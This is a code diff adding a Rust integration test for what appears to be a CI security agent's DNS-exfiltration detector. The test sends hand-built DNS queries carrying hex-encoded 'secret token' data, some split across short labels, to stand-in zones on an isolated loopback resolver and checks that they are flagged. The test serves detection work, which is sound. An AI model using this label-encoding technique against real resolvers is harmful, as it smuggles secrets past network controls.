@@ -3,6 +3,7 @@
 //! was resolved from. Nothing leaves the machine: the namespace has only its loopback.
 
 use std::{
+    path::PathBuf,
     process::{Child, Command, Stdio},
     sync::{
         atomic::{AtomicU32, Ordering},
@@ -28,6 +29,9 @@ struct DnsLab {
     ns: String,
     dnsmasq: Child,
     sink: Child,
+    /// dnsmasq's query log: proof a question reached the resolver.
+    query_log: PathBuf,
+    _dir: tempfile::TempDir,
 }
 
 fn run(args: &[&str]) {
@@ -67,6 +71,8 @@ impl DnsLab {
             "nameserver 127.0.0.1\n",
         )
         .unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let query_log = dir.path().join("queries.log");
         let dnsmasq = Command::new("ip")
             .args([
                 "netns",
@@ -81,7 +87,9 @@ impl DnsLab {
                 "--listen-address=127.0.0.1",
                 "--bind-interfaces",
                 "--cache-size=0",
+                "--log-queries",
             ])
+            .arg(format!("--log-facility={}", query_log.display()))
             .args([
                 "--address=/allowed.test/10.77.0.1",
                 "--address=/denied.test/10.77.0.2",
@@ -111,7 +119,13 @@ impl DnsLab {
             .stderr(Stdio::null())
             .spawn()
             .unwrap();
-        let mut lab = DnsLab { ns, dnsmasq, sink };
+        let mut lab = DnsLab {
+            ns,
+            dnsmasq,
+            sink,
+            query_log,
+            _dir: dir,
+        };
         // Ready when the DNS server answers and the sink accepts (generous: CI machines are
         // busy while the other tests run).
         let mut last = String::new();
@@ -246,7 +260,8 @@ fn connections_are_judged_by_the_name_they_were_resolved_from() {
     let answer = |name: &str| {
         events
             .iter()
-            .find(|e| e["kind"] == "dns" && e["question"] == name)
+            // Answers, not the questions that went out before them.
+            .find(|e| e["kind"] == "dns" && e["question"] == name && e["sent"] != true)
             .cloned()
     };
     assert_eq!(
@@ -408,4 +423,66 @@ fn udp_send(address: &str, tag: &str) -> String {
     format!(
         "python3 -c \"import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{address}', 5353))\n    print('SENT-{tag}')\nexcept PermissionError:\n    print('REFUSED-{tag}')\"\n"
     )
+}
+
+/// Questions are judged as they leave, whatever reads (or does not read) the answer: a process
+/// that sends a data-carrying query and closes its socket without reading, and one that spreads
+/// the data over short labels. The resolver's log proves each question reached it.
+#[test]
+fn questions_are_judged_even_when_no_answer_is_read() {
+    let _serial = one_at_a_time();
+    let agent = Agent::start_with_profile(PROFILE);
+    let lab = DnsLab::start();
+    let runner = FakeRunner::new();
+    // A DNS query built by hand, sent with sendto to the lab's resolver; nothing is read.
+    let script = runner.workspace.join("query.py");
+    std::fs::write(
+        &script,
+        "import socket, struct, sys\n\
+         name = sys.argv[1]\n\
+         q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n\
+         m = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1)\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+         s.sendto(m, ('127.0.0.1', 53))\n\
+         s.close()\n",
+    )
+    .unwrap();
+    let send_query =
+        |name: &str| lab.sh(&format!("python3 {} {name}; sleep 0.3", script.display()));
+    let unread = "7365637265742d746f6b656e2d636f6e74656e7473.unread.exfil.test";
+    let split = "736563726574.2d746f6b656e.2d636f6e7465.6e7473303132.split.test";
+    runner.run_job(&[
+        ("unread", &send_query(unread)),
+        ("split", &send_query(split)),
+        ("benign", &send_query("allowed.test")),
+        MARKER_STEP,
+    ]);
+    // The questions reached the resolver.
+    let log = std::fs::read_to_string(&lab.query_log).unwrap_or_default();
+    for name in [unread, split, "allowed.test"] {
+        assert!(
+            log.contains(name),
+            "{name} not in the resolver's log:\n{log}"
+        );
+    }
+    let mine = agent.findings_through_marker(&runner);
+    let exfil = by_rule(&mine, "dns-exfiltration");
+    let in_step = |step: &str| exfil.iter().find(|f| f["step"]["id"] == step).copied();
+    let unread_finding = in_step("unread").unwrap_or_else(|| panic!("{mine:#?}"));
+    assert_eq!(unread_finding["evidence"]["zone"], "exfil.test");
+    let split_finding = in_step("split").unwrap_or_else(|| panic!("{mine:#?}"));
+    assert_eq!(split_finding["evidence"]["zone"], "split.test");
+    assert_eq!(split_finding["evidence"]["labels"], 4, "{split_finding:#}");
+    assert!(in_step("benign").is_none(), "{exfil:#?}");
+    // The questions were events of their own (no answer was read).
+    let sent: Vec<Value> = agent
+        .events()
+        .into_iter()
+        .filter(|e| e["kind"] == "dns" && e["sent"] == true)
+        .collect();
+    assert!(
+        sent.iter().any(|e| e["question"] == unread),
+        "no question event for {unread}"
+    );
+    drop(lab);
 }
